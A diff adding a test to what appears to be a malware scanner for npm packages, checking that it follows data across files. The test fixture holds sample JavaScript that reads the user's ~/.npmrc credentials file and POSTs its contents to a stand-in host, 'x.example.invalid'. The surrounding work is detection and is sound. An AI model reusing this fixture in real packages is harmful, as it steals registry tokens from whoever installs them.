@@ -77,6 +77,21 @@ struct BehaviourTests {
         #expect(fact.steps.last?.place.excerpt?.contains("fetch(") == true)
     }
 
+    @Test("and values are followed from one file into another")
+    func across() throws {
+        let files = [
+            "index.js": "const { report } = require('./lib/send');\nconst fs = require('fs'), os = require('os');\n"
+                + "const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nreport('settings', rc);\n",
+            "lib/send.js": "const https = require('https');\nfunction report(kind, body) {\n"
+                + "  https.request({ host: 'x.example.invalid', path: '/' + kind, method: 'POST' }).end(body);\n}\n"
+                + "module.exports = { report };\n",
+        ]
+        let report = Sample.report(Sample.npm(files))
+        let fact = try #require(report.facts(.chainExfiltration, .load).first)
+        #expect(fact.steps.map(\.place.path).contains("package/lib/send.js"))
+        #expect(fact.steps.first?.place.path == "package/index.js")
+    }
+
     private func expect(_ snippet: Snippet, _ report: Report, _ reach: Reach) {
         let found = report.facts.filter { $0.reach == reach }.map(\.code)
         for code in snippet.codes {
